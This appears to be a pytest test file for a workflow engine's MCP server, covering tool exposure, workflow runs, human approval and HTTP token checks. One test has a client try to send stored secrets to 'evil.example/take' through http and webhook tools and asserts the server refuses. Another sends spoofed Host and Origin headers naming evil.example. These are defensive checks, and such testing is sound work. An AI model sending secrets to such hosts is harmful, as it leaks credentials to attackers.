"""Our MCP server: what it offers, what it answers, and how it is reached, in a process of its own and over HTTP."""

import asyncio
import sys
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, aclosing, asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp import ClientSession
from mcp.shared.memory import create_connected_server_and_client_session

from run_workflow.engine.engine import Engine
from run_workflow.mcp import http
from run_workflow.mcp.offers import Offer, RegistryOffer
from run_workflow.mcp.server import server_of
from run_workflow.mcp.workflows import WorkflowOffer, listed
from run_workflow.postgres.database import Database
from run_workflow.settings import Settings, load_settings
from state.errors import BuildError, SetupError, ToolFailed
from state.ports import Network
from state.runs import Answer, Approve, Json
from tests.postgres_fixtures import PROJECT, ServerForTests
from tests.run_workflow.engine_graphs import NO_MODELS, QUICK
from tools.breaker import Breakers
from tools.mcp.server import McpServer
from tools.mcp.servers import McpServers
from tools.memory import SystemClock
from tools.network import Clients
from tools.registry import Registry
from tools.toolbox import Toolbox

WEATHER = PROJECT / "examples" / "mcp" / "weather.py"
FILES = {
    "echo": """name: echo
description: Gives a number back.
inputs: {type: object, required: [n], properties: {n: {type: integer}}}
steps:
  - {id: sum, type: action, tool: set, input_mapping: {value: workflow.n}}
outputs: {same: $sum.value}
""",
    "asks": """name: asks
steps:
  - {id: sure, type: human_approval, message: Is it right?}
  - {id: soon, type: wait, duration: 0.05, depends_on: [sure]}
  - {id: end, type: action, tool: set, depends_on: [soon], input_mapping: {said: done}}
outputs: {said: $end.said}
""",
    "broken": "name: broken\nsteps: 3\n",
    "forecast": """name: forecast
inputs: {type: object, required: [city], properties: {city: {type: string}}}
steps:
  - {id: now, type: action, tool: weather.now, input_mapping: {city: workflow.city}}
outputs: {temp: $now.temp}
""",
}


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    folder = tmp_path / "workflows"
    folder.mkdir()
    for name, text in FILES.items():
        (folder / f"{name}.yaml").write_text(text, encoding="utf-8")
    return load_settings({"STRETTO_HOME": str(tmp_path), "STRETTO_WORKFLOWS": str(folder), "STRETTO_USER": "ann"})


@asynccontextmanager
async def opened(settings: Settings, database: Database, *allowed: str, seconds: float = 20) -> AsyncIterator[Any]:
    """An engine, and a client of a server over it."""
    toolbox = Toolbox(files=settings.home / "files")
    engine = Engine(database.pool, NO_MODELS, SystemClock(), {}, network=Network(toolbox=toolbox), times=QUICK)
    offers: list[Offer] = [RegistryOffer(toolbox.served(None), allowed), WorkflowOffer(settings, engine, seconds)]
    async with (
        aclosing(engine.background),
        create_connected_server_and_client_session(server_of(offers)) as client,
    ):
        yield engine, client


async def given(client: ClientSession, tool: str, **arguments: object) -> Any:
    answer = await client.call_tool(tool, arguments)
    assert not answer.isError, answer
    return answer.structuredContent


async def refused(client: ClientSession, tool: str, **arguments: object) -> str:
    answer = await client.call_tool(tool, arguments)
    assert answer.isError, answer
    (part,) = answer.content
    assert part.type == "text"
    return part.text


async def test_tools_that_write_are_offered_by_name_alone(settings: Settings, database: Database) -> None:
    """The others are called by the registry: checked, with their errors; what is no object is put into one."""
    async with opened(settings, database, "file_write") as (_, client):
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        assert {"set", "file_write", "statistics", "run_echo", "workflow_status"} <= set(tools)
        assert not {"http", "database_execute", "webhook", "workflow", "run_broken"} & set(tools)
        writes = {name for name, tool in tools.items() if tool.annotations and not tool.annotations.readOnlyHint}
        assert {name for name in writes if not name.startswith("run_")} == {"file_write", "workflow_status"}
        watch = tools["workflow_status"].annotations
        assert watch is not None  # it may go on with a run, and does no step twice
        assert (watch.readOnlyHint, watch.idempotentHint) == (False, True)
        assert await given(client, "set", a=[1]) == {"value": {"a": [1]}}
        assert (await given(client, "file_write", path="a.json", content=[1]))["size"] == 3
        assert await given(client, "file_read", path="a.json", form="json") == {"value": [1]}
        assert "is not as it must be" in await refused(client, "file_read", paths="a.json")
        assert "No tool 'http' is offered" in await refused(client, "http", url="https://shop.example", method="POST")
    assert [line.partition(": ")[0] for line in (await listed(settings, 1))[1]] == [f"{settings.workflows}/broken.yaml"]
    with pytest.raises(SetupError, match="no tool 'htp'"):
        RegistryOffer(Toolbox().shown(), ["htp"])


@pytest.mark.parametrize(
    "auth",
    [
        {"type": "bearer", "secret": "shop"},
        {"type": "basic", "user": "ann", "secret": "shop"},
        {"type": "api_key", "header": "X-Key", "secret": "shop"},
        {"type": "oauth2", "token_url": "https://evil.example/token", "client": "shop", "secret": "shop"},
    ],
)
async def test_a_client_can_send_no_secret_anywhere(tmp_path: Path, auth: Json) -> None:
    """Neither by the tool that asks nor by those that a person allowed; runs have their secrets as before."""
    toolbox = Toolbox(secrets={"shop": "hush"}, files=tmp_path)
    offer = RegistryOffer(toolbox.served(None), ["http", "webhook"])
    asked: Json = {"url": "https://evil.example/take"}
    for tool, given_with in (("http_get", {"auth": auth}), ("http", {"auth": auth}), ("webhook", {"secret": "shop"})):
        with pytest.raises(ToolFailed, match="Secrets are not lent to MCP clients") as failed:
            await offer.call(tool, {**asked, **given_with})
        assert failed.value.error == "refused"
    with pytest.raises(ToolFailed) as other:
        await toolbox.shown().call("http_get", {**asked, "auth": auth})
    assert other.value.error == "unavailable"  # it went as far as the network, which tests do not have


async def test_a_workflow_is_run_to_its_end(settings: Settings, database: Database) -> None:
    """Its tool has the inputs of the file; wrong ones are refused with their reason."""
    async with opened(settings, database) as (engine, client):
        (tool,) = [tool for tool in (await client.list_tools()).tools if tool.name == "run_echo"]
        assert tool.inputSchema["required"] == ["n"]
        assert str(tool.description).startswith("Gives a number back.")
        told = await given(client, "run_echo", n=4)
        assert (told["status"], told["outputs"], told["commands"]) == ("completed", {"same": 4}, [])
        assert "n" in await refused(client, "run_echo", n="four")
        assert "no input 'm'" in await refused(client, "run_echo", n=1, m=1)
        (run,) = await engine.list_runs()
        own = await engine.workflows.start(
            await engine.workflows.definition_of(run), {"n": 1}, run.context, actor="ann", dedup_key=None
        )
        assert "not started over MCP" in await refused(client, "workflow_status", workflow_id=own.id)
        assert "wait_seconds" in await refused(client, "workflow_status", workflow_id=run.id, wait_seconds=-1)


async def test_a_run_outlives_its_client(settings: Settings, database: Database) -> None:
    """Where the process ends meanwhile, the next one goes on with it for whoever asks how it stands."""
    async with opened(settings, database, seconds=0) as (_, client):
        begun = await given(client, "run_echo", n=4)
        assert begun["status"] != "completed"
    async with opened(settings, database) as (_, client):
        told = await given(client, "workflow_status", workflow_id=begun["workflow_id"], wait_seconds=20)
        assert (told["status"], told["outputs"]) == ("completed", {"same": 4})


async def test_a_run_that_cannot_be_gone_on_with_says_so(
    settings: Settings, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With its id, by which a client has it tried again."""

    async def advance(*_: object, **__: object) -> None:
        raise BuildError("The definition cannot be read any more.")

    async with opened(settings, database) as (engine, client):
        with monkeypatch.context() as patched:
            patched.setattr(engine, "advance", advance)
            told = await refused(client, "run_echo", n=4)
            (run,) = await engine.list_runs()
            assert told.startswith(f"run {run.id}: It does not go on. The definition cannot be read")
        again = await given(client, "workflow_status", workflow_id=run.id, wait_seconds=20)
        assert again["outputs"] == {"same": 4}


async def test_what_waits_for_a_person_is_answered_elsewhere(settings: Settings, database: Database) -> None:
    """The client is told what is asked, and how it is answered; a later client sees the run to its end."""
    async with opened(settings, database) as (engine, client):
        told = await given(client, "run_asks")
        run_id = told["workflow_id"]
        assert (told["status"], told["waiting_for"][0]["question"]) == ("waiting_approval", "Is it right?")
        assert any(f"approve {run_id}" in command for command in told["commands"])
        await engine.answer(run_id, None, Answer(decisions=(Approve(),)), "ann")
    async with opened(settings, database) as (_, client):
        told = await given(client, "workflow_status", workflow_id=run_id, step_name="end", wait_seconds=20)
        assert told["step"]["output"] == {"said": "done"}  # the run itself may still be at its end
        told = await given(client, "workflow_status", workflow_id=run_id, wait_seconds=20)
        assert (told["status"], told["outputs"]) == ("completed", {"said": "done"})


@pytest.mark.slow
async def test_mcp_both_ways_over_processes(settings: Settings, postgres_server: ServerForTests) -> None:
    """A client starts our server, which runs a workflow, whose step asks a server that ours starts."""
    with postgres_server.migrated_database() as dsn:
        environment = {
            "DATABASE_URL": dsn,
            "STRETTO_HOME": str(settings.home),
            "STRETTO_WORKFLOWS": str(settings.workflows),
            "STRETTO_MCP_WEATHER": f"{sys.executable} {WEATHER}",
            "PYTHONPATH": str(PROJECT),
        }
        ours = McpServer("ours", (sys.executable, "-m", "run_workflow", "mcp", "--wait", "60"), environment=environment)
        async with AsyncExitStack() as stack:
            servers = McpServers([ours], Clients())
            stack.push_async_callback(servers.aclose)
            tools = Registry([], Breakers(SystemClock()), None, servers)
            told = await tools.call("ours.run_forecast", {"city": "Rome"})
            assert (told["status"], told["outputs"]) == ("completed", {"temp": 21.5})
            assert "ours.weather.now" not in tools.names()  # what others offer is not passed on
            with pytest.raises(ToolFailed, match="outside of what may be read"):  # where the client started it
                await tools.call("ours.file_find", {"path": str(WEATHER)})


@pytest.mark.slow
async def test_over_http_a_token_is_needed_and_no_page_of_a_browser_is_heard() -> None:
    """A client with the token calls tools; without it, from another page, or by another name of the host, nobody."""
    stopped = asyncio.Event()
    with http.listening(0) as listener:
        address = http.address_of(listener)
        host = address.removeprefix("http://").removesuffix(http.PATH)
        server = server_of([RegistryOffer(Toolbox().shown())])
        serving = asyncio.create_task(http.serve(server, listener, "hush-hush", stopped))
        async with Clients([host]) as clients:
            servers = McpServers([McpServer("ours", url=address, token="hush-hush")], clients)
            tools = Registry([], Breakers(SystemClock()), None, servers)
            assert await tools.call("ours.set", {"a": 1}) == {"value": {"a": 1}}
            await servers.aclose()
            other = Registry([], Breakers(SystemClock()), None, McpServers([McpServer("ours", url=address)], clients))
            with pytest.raises(ToolFailed, match="401"):
                await other.call("ours.set", {})
        async with httpx.AsyncClient(headers={"Authorization": "Bearer hush-hush"}) as plain:
            for headers, code in (({"Host": "evil.example"}, 421), ({"Origin": "https://evil.example"}, 403)):
                assert (await plain.post(address, json={}, headers=headers)).status_code == code
            assert (await plain.get(address.removesuffix(http.PATH))).status_code == 404
        with pytest.raises(SetupError, match="cannot be used"):
            http.listening(int(host.rpartition(":")[2]))
        stopped.set()
        await serving
